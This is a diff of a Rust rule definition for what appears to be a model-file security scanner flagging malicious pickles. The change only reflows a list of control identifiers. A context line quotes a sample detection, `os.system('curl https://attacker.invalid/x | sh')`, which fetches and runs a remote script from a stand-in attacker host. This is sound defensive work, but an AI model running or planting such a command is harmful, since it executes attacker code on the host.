@@ -12,5 +12,17 @@ pub static RULE: Rule = Rule {
     why: "Unpickling is code execution: whatever a pickle calls runs with the rights of the process that loads the model, typically a training or serving host holding credentials and data. This is the classic malicious-model attack on model hubs.",
     example: "`model.pkl` whose stream is `GLOBAL os system`, a string, `TUPLE1`, `REDUCE`: reported with the evidence `os.system('curl https://attacker.invalid/x | sh')`.",
     remediation: "Do not load the file. Obtain the model from a trusted source, verify its digest, and prefer a format that cannot run code (safetensors, GGUF, ONNX). Where pickles are unavoidable, load them with `torch.load(..., weights_only=True)` or an allow-listing unpickler.",
-    controls: &[LLM03, ML06, ML10, ATLAS_T0010_003, ATLAS_T0011_000, ATLAS_T0018_002, ATLAS_M0011, ATLAS_M0014, EU_ART_15, NIST_MEASURE_2_7, NIST_MANAGE_3_2],
+    controls: &[
+        LLM03,
+        ML06,
+        ML10,
+        ATLAS_T0010_003,
+        ATLAS_T0011_000,
+        ATLAS_T0018_002,
+        ATLAS_M0011,
+        ATLAS_M0014,
+        EU_ART_15,
+        NIST_MEASURE_2_7,
+        NIST_MANAGE_3_2,
+    ],
 };
